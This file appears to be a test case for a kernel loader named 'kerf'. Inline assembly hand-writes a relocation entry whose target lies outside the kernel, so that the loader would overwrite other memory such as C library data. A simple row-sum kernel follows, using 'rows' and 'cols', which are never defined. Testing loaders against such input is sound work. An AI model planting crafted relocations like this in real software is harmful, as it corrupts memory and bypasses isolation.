/* kerf
target: cpu
*/
// Exploit: a relocation written by hand whose place lies outside of the kernel: the loader itself would overwrite what
// lies there, for example the C library's data.
__asm__(R"(
.section .data.rel.ro,"aw",@progbits
.balign 8
kerf_pointer: .quad kerf_pointer
.section .rela.dyn,"a",@progbits
.balign 8
.quad 0x200000
.quad 8
.quad 0x1000
.text
)");
extern "C" void kerf_kernel(const float* x, float* y) {
  for (int r = 0; r < rows; ++r) {
    float s = 0;
    for (int c = 0; c < cols; ++c) s += x[r * cols + c];
    y[r] = s;
  }
}
